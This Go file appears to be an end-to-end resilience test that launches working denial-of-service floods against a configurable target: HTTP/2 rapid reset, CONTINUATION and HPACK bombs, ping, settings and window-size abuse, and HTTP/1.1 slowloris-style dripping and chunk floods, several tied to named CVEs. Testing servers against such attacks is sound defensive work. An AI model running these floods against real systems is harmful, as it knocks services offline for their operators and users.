package e2e

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// flood is one attack: connections at once, each opened again when the server ends it, until the time is over.
type flood struct {
	name        string
	connections int
	// answers: the attacker asks for content and does not take it. What that content costs is not the attack's, and each stalled
	// request holds a handler and its upstream connection: 100 of them are allowed 4 MiB.
	answers bool
	// again is how long an attacker waits before it opens a connection in the place of one that was ended.
	again   time.Duration
	attack1 func(c net.Conn)        // a whole connection of HTTP/1.1 or of bytes
	attack2 func(c *rawHTTP2) error // what follows the preface of HTTP/2; repeated until it fails
}

// floods are the attacks. HTTP/2: CVE-2019-9511 to 9518, CVE-2023-44487, CVE-2024-27919 and their kin, CVE-2025-8671,
// CVE-2026-47774.
var floods = []*flood{
	{name: "rapid reset", connections: 4, attack2: func(c *rawHTTP2) error {
		for range 100 {
			id := c.get("/")
			_ = c.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		return c.flush()
	}},
	{name: "resets that the server is made to send", connections: 4, attack2: func(c *rawHTTP2) error {
		for range 100 {
			id := c.get("/")
			_ = c.WriteWindowUpdateAllowZero(id)
		}
		return c.flush()
	}},
	{name: "data on closed streams", connections: 4, attack2: func(c *rawHTTP2) error {
		for range 100 {
			id := c.get("/")
			_ = c.WriteData(id, false, []byte("x"))
		}
		return c.flush()
	}},
	{name: "continuation without end", connections: 4, attack2: func(c *rawHTTP2) error {
		_ = c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next(), BlockFragment: c.block("/")})
		junk := bytes.Repeat([]byte{0x40, 0x01, 'x', 0x01, 'y'}, 3000)
		for range 1000 {
			_ = c.WriteContinuation(c.id, false, junk)
			if err := c.flush(); err != nil {
				return err
			}
		}
		return nil
	}},
	{name: "continuation in crumbs", connections: 4, attack2: func(c *rawHTTP2) error {
		_ = c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next(), BlockFragment: c.block("/")})
		for range 2000 {
			_ = c.WriteContinuation(c.id, false, nil)
		}
		return c.flush()
	}},
	{name: "settings", connections: 4, attack2: func(c *rawHTTP2) error {
		for range 500 {
			_ = c.WriteSettings()
		}
		return c.flush()
	}},
	{name: "pings", connections: 4, attack2: func(c *rawHTTP2) error {
		for range 500 {
			_ = c.WritePing(false, [8]byte{})
		}
		return c.flush()
	}},
	{name: "pings whose answers nobody reads", connections: 4, attack2: func(c *rawHTTP2) error {
		c.deaf.Store(true)
		for range 500 {
			_ = c.WritePing(false, [8]byte{})
		}
		return c.flush()
	}},
	{name: "empty data", connections: 4, attack2: func(c *rawHTTP2) error {
		id := c.post("/")
		for range 1000 {
			_ = c.WriteData(id, false, nil)
		}
		return c.flush()
	}},
	{name: "data that is all padding", connections: 4, attack2: func(c *rawHTTP2) error {
		id := c.post("/")
		pad := make([]byte, 255)
		for range 200 {
			_ = c.WriteDataPadded(id, false, nil, pad)
		}
		return c.flush()
	}},
	{name: "priorities", connections: 4, attack2: func(c *rawHTTP2) error {
		for i := range uint32(500) {
			_ = c.WritePriority(2*i+1, http2.PriorityParam{StreamDep: 2*i + 3, Weight: 7})
		}
		return c.flush()
	}},
	{name: "frames that nobody knows", connections: 4, attack2: func(c *rawHTTP2) error {
		for range 500 {
			_ = c.WriteRawFrame(0xfa, 0, 0, []byte("x"))
		}
		return c.flush()
	}},
	{name: "window of zero", connections: 8, answers: true, attack2: func(c *rawHTTP2) error {
		_ = c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		for range 100 {
			c.get("/large")
		}
		if err := c.flush(); err != nil {
			return err
		}
		return c.idle()
	}},
	{name: "window a byte at a time", connections: 4, attack2: func(c *rawHTTP2) error {
		if c.id == 0 {
			_ = c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
			for range 50 {
				c.get("/large")
			}
		}
		for id := uint32(1); id < 100; id += 2 {
			_ = c.WriteWindowUpdate(id, 1)
		}
		return c.flush()
	}},
	{name: "window that is opened and closed", connections: 4, attack2: func(c *rawHTTP2) error {
		if c.id == 0 {
			for range 50 {
				c.get("/large")
			}
		}
		for range 100 {
			_ = c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			_ = c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
		}
		return c.flush()
	}},
	{name: "header compression bomb", connections: 4, attack2: func(c *rawHTTP2) error {
		block := append(c.block("/"), 0x40, 0x01, 'x', 0x7f, 0xa1, 0x1e) // literal with indexing, value of 4000 bytes
		block = append(block, bytes.Repeat([]byte{'v'}, 4000)...)
		block = append(block, bytes.Repeat([]byte{0xbe}, 8000)...) // 8,000 times the entry that was just added
		_ = c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next(), BlockFragment: block, EndHeaders: true, EndStream: true})
		return c.flush()
	}},
	{name: "cookie crumbs", connections: 4, attack2: func(c *rawHTTP2) error {
		block := append(c.block("/"), 0x60, 0x03, 'a', '=', 'b') // cookie: a=b with indexing
		block = append(block, bytes.Repeat([]byte{0xbe}, 12000)...)
		_ = c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next(), BlockFragment: block, EndHeaders: true, EndStream: true})
		return c.flush()
	}},
	{name: "requests that are not read", connections: 8, answers: true, attack2: func(c *rawHTTP2) error {
		c.deaf.Store(true)
		for range 100 {
			c.get("/large")
		}
		if err := c.flush(); err != nil {
			return err
		}
		return c.idle()
	}},
	{name: "head byte by byte", connections: 500, attack1: func(c net.Conn) {
		drip(c, "GET / HTTP/1.1\r\nhost: a\r\nx-a: "+strings.Repeat("b", 1000))
	}},
	{name: "body byte by byte", connections: 300, attack1: func(c net.Conn) {
		_, _ = io.WriteString(c, "POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 100000\r\n\r\n")
		drip(c, strings.Repeat("b", 1000))
	}},
	{name: "answer that is not read", connections: 200, answers: true, attack1: func(c net.Conn) {
		_ = c.(*net.TCPConn).SetReadBuffer(1 << 10)
		_, _ = io.WriteString(c, "GET /large HTTP/1.1\r\nhost: a\r\n\r\n")
		time.Sleep(time.Hour)
	}},
	{name: "chunks of one byte with extensions", connections: 4, again: 10 * time.Millisecond, attack1: func(c net.Conn) {
		_, _ = io.WriteString(c, "POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n")
		chunks := strings.Repeat("1;"+strings.Repeat("e", 200)+"\r\nx\r\n", 300)
		for {
			if _, err := io.WriteString(c, chunks); err != nil {
				return
			}
		}
	}},
	{name: "trailers without end", connections: 4, again: 10 * time.Millisecond, attack1: func(c net.Conn) {
		_, _ = io.WriteString(c, "POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n0\r\n")
		lines := strings.Repeat("x-a: b\r\n", 5000)
		for {
			if _, err := io.WriteString(c, lines); err != nil {
				return
			}
		}
	}},
	{name: "9,000 connections that say nothing", connections: 9000, attack1: func(net.Conn) { time.Sleep(time.Hour) }},
}

// drip sends a byte every half second.
func drip(c net.Conn, text string) {
	for i := range len(text) {
		if _, err := io.WriteString(c, text[i:i+1]); err != nil {
			return
		}
		time.Sleep(500 * time.Millisecond)
	}
}

// runFlood is the attacker's process.
func runFlood(name string) int {
	target := os.Getenv("POSTERN_FLOOD_TARGET")
	length, err := time.ParseDuration(os.Getenv("POSTERN_FLOOD_FOR"))
	if err != nil {
		fmt.Println(err)
		return 1
	}
	for _, f := range floods {
		if f.name == name {
			f.against(target, time.Now().Add(length))
			return 0
		}
	}
	fmt.Printf("there is no flood %q\n", name)
	return 1
}

// against attacks until the deadline, when the process ends with whatever is open.
func (f *flood) against(target string, deadline time.Time) {
	var opened, refused atomic.Int64
	var sent atomic.Int64
	over := time.After(time.Until(deadline))
	for i := range f.connections {
		if i%500 == 499 {
			time.Sleep(20 * time.Millisecond)
		}
		go func() {
			for time.Now().Before(deadline) {
				c, err := net.DialTimeout("tcp", target, time.Second)
				if err != nil {
					refused.Add(1)
					time.Sleep(100 * time.Millisecond)
					continue
				}
				opened.Add(1)
				_ = c.SetDeadline(deadline)
				if f.attack2 != nil {
					sent.Add(repeat(c, f.attack2))
				} else {
					go func() { _, _ = io.Copy(io.Discard, c) }()
					f.attack1(c)
				}
				_ = c.Close()
				time.Sleep(f.again)
			}
		}()
	}
	<-over
	fmt.Printf("%d connections, %d could not be opened, %d rounds", opened.Load(), refused.Load(), sent.Load())
}

// repeat opens HTTP/2 and attacks until the server has had enough.
func repeat(c net.Conn, attack func(*rawHTTP2) error) (rounds int64) {
	h := &rawHTTP2{conn: c, ended: make(chan struct{})}
	h.Framer = http2.NewFramer(&h.out, c)
	h.AllowIllegalWrites = true
	h.out.WriteString(http2.ClientPreface)
	_ = h.WriteSettings()
	_ = h.flush()
	go h.read()
	for attack(h) == nil {
		rounds++
	}
	return rounds
}

// rawHTTP2 is an attacker's end of an HTTP/2 connection. What is written gathers until flush.
type rawHTTP2 struct {
	*http2.Framer
	conn  net.Conn
	out   bytes.Buffer
	id    uint32 // of the last stream
	deaf  atomic.Bool
	ended chan struct{}
	once  sync.Once
}

func (c *rawHTTP2) flush() error {
	_, err := c.conn.Write(c.out.Bytes())
	c.out.Reset()
	return err
}

// read throws away what the server says, until it says goodbye.
func (c *rawHTTP2) read() {
	defer c.once.Do(func() { close(c.ended) })
	buf := make([]byte, 64<<10)
	for !c.deaf.Load() {
		if _, err := c.conn.Read(buf); err != nil {
			return
		}
	}
	time.Sleep(time.Hour)
}

// idle waits until the server ends the connection.
func (c *rawHTTP2) idle() error {
	<-c.ended
	return io.EOF
}

func (c *rawHTTP2) next() uint32 {
	if c.id == 0 {
		c.id = 1
	} else {
		c.id += 2
	}
	return c.id
}

func (c *rawHTTP2) block(path string) []byte { return fieldBlock("GET", path) }

func (c *rawHTTP2) get(path string) uint32 {
	_ = c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next(), BlockFragment: c.block(path), EndHeaders: true, EndStream: true})
	return c.id
}

func (c *rawHTTP2) post(path string) uint32 {
	_ = c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next(), BlockFragment: fieldBlock("POST", path), EndHeaders: true})
	return c.id
}

// WriteWindowUpdateAllowZero writes an increment that no honest peer sends (RFC 9113, Section 6.9).
func (c *rawHTTP2) WriteWindowUpdateAllowZero(id uint32) error {
	return c.WriteRawFrame(http2.FrameWindowUpdate, 0, id, make([]byte, 4))
}

func fieldBlock(method, path string) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, f := range [][2]string{{":method", method}, {":scheme", "http"}, {":authority", "a"}, {":path", path}} {
		_ = encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
	}
	return block.Bytes()
}
